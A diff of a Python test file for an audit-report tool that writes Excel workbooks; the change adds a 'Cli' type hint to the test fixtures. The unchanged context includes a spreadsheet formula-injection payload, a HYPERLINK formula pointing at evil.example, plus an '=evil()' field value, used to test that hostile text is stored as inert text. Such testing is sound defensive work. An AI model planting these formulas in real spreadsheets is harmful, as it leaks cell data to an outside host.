@@ -16,7 +16,7 @@ from cx_audit.files.audit import load_audit
 from cx_audit.report.input import build_input
 from cx_audit.scoring.audit import score_audit
 from cx_audit.scoring.rounding import shown
-from tests.conftest import MINI_CHECKLIST, audit_text, run_subprocess, write
+from tests.conftest import MINI_CHECKLIST, Cli, audit_text, run_subprocess, write
 
 HOSTILE = {
     "A1": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
@@ -87,7 +87,7 @@ def assert_no_formulas(wb: Any) -> None:
 # --- one audit --------------------------------------------------------------------
 
 
-def test_single_audit_sheets_values_and_types(cli, folder: Path) -> None:
+def test_single_audit_sheets_values_and_types(cli: Cli, folder: Path) -> None:
     wb = report(cli, folder, "a.yaml")
     assert wb.sheetnames == ["Summary", "Items", "Actions"]
     items = wb["Items"]
@@ -127,7 +127,7 @@ def test_single_audit_sheets_values_and_types(cli, folder: Path) -> None:
     assert items.print_title_rows == "$1:$1" and items.page_setup.orientation == "landscape"
 
 
-def test_summary_facts_dates_and_chart(cli, folder: Path) -> None:
+def test_summary_facts_dates_and_chart(cli: Cli, folder: Path) -> None:
     wb = report(cli, folder, "a.yaml")
     summary = wb["Summary"]
     facts = first_by_label(summary)
@@ -148,7 +148,7 @@ def test_summary_facts_dates_and_chart(cli, folder: Path) -> None:
     assert len(charts[0].series) == 1
 
 
-def test_two_sections_get_a_bar_chart(cli, tmp_path: Path) -> None:
+def test_two_sections_get_a_bar_chart(cli: Cli, tmp_path: Path) -> None:
     two = MINI_CHECKLIST.split("  - id: extra")[0]
     write(tmp_path / "mini.yaml", two)
     write(tmp_path / "a.yaml", audit_text("A1: 3\nA2: 'yes'\nB1: always"))
@@ -157,7 +157,7 @@ def test_two_sections_get_a_bar_chart(cli, tmp_path: Path) -> None:
     assert type(chart).__name__ == "BarChart"
 
 
-def test_actions_are_ranked_with_owner_due_status(cli, folder: Path) -> None:
+def test_actions_are_ranked_with_owner_due_status(cli: Cli, folder: Path) -> None:
     wb = report(cli, folder, "a.yaml")
     ws = wb["Actions"]
     result = score_audit(*_loaded(folder / "a.yaml"))
@@ -173,13 +173,13 @@ def test_actions_are_ranked_with_owner_due_status(cli, folder: Path) -> None:
     assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:L{n}"
 
 
-def test_no_actions_still_gives_a_usable_sheet(cli, folder: Path) -> None:
+def test_no_actions_still_gives_a_usable_sheet(cli: Cli, folder: Path) -> None:
     write(folder / "full.yaml", audit_text("A1: 4\nA2: 'yes'\nA3: 4\nB1: always\nB2: 1\nC1: 4"))
     wb = report(cli, folder, "full.yaml")
     assert rows(wb["Actions"])[1][3] == "No item lost points: there is nothing to do."
 
 
-def test_hostile_text_is_stored_as_text(cli, folder: Path) -> None:
+def test_hostile_text_is_stored_as_text(cli: Cli, folder: Path) -> None:
     for args in (["a.yaml"], ["a.yaml", "--baseline", "b.yaml"], ["a.yaml", "b.yaml", "c.yaml"]):
         wb = report(cli, folder, *args)
         assert_no_formulas(wb)
@@ -202,7 +202,7 @@ def test_safe_sheet_titles() -> None:
     assert safe_title("   ") == "Sheet"
 
 
-def test_baseline_adds_comparison_and_a_baseline_series(cli, folder: Path) -> None:
+def test_baseline_adds_comparison_and_a_baseline_series(cli: Cli, folder: Path) -> None:
     wb = report(cli, folder, "a.yaml", "--baseline", "b.yaml")
     assert wb.sheetnames == ["Summary", "Items", "Actions", "Comparison"]
     (chart,) = wb["Summary"]._charts
@@ -221,7 +221,7 @@ def test_baseline_adds_comparison_and_a_baseline_series(cli, folder: Path) -> No
 # --- a program --------------------------------------------------------------------
 
 
-def test_program_sheets(cli, folder: Path) -> None:
+def test_program_sheets(cli: Cli, folder: Path) -> None:
     wb = report(cli, folder, "a.yaml", "b.yaml", "c.yaml")
     assert wb.sheetnames == ["Summary", "Sites", "Items", "Actions", "Answers"]
     results = [score_audit(*_loaded(folder / f)) for f in ("a.yaml", "b.yaml", "c.yaml")]
@@ -283,7 +283,7 @@ def test_byte_identical_across_runs_and_hash_seeds(folder: Path) -> None:
         assert "2026-11-22T12:00:00Z" in core and "cx-audit" in core
 
 
-def test_written_atomically_and_replaced(cli, folder: Path) -> None:
+def test_written_atomically_and_replaced(cli: Cli, folder: Path) -> None:
     out = folder / "out.xlsx"
     out.write_bytes(b"old")
     os.chmod(out, 0o640)
@@ -292,7 +292,7 @@ def test_written_atomically_and_replaced(cli, folder: Path) -> None:
     assert [p.name for p in folder.iterdir() if p.name.startswith(".out.xlsx")] == []
 
 
-def test_audits_with_nothing_assessed(cli, folder: Path) -> None:
+def test_audits_with_nothing_assessed(cli: Cli, folder: Path) -> None:
     (folder / "empty.yaml").write_text(
         "format: cx-audit/audit@1\nchecklist: mini.yaml\nclient: '=evil()'\nauditor: ''\nanswers: {}\n"
     )
@@ -304,7 +304,7 @@ def test_audits_with_nothing_assessed(cli, folder: Path) -> None:
     assert facts["Completeness"][0] == 0
 
 
-def test_with_the_html_report_in_one_run(cli, folder: Path) -> None:
+def test_with_the_html_report_in_one_run(cli: Cli, folder: Path) -> None:
     run = cli("report", "a.yaml", "--html", "a.html", "--xlsx", "a.xlsx", cwd=folder)
     assert run.code == 0, run.err
     assert zipfile.is_zipfile(folder / "a.xlsx") and (folder / "a.html").is_file()
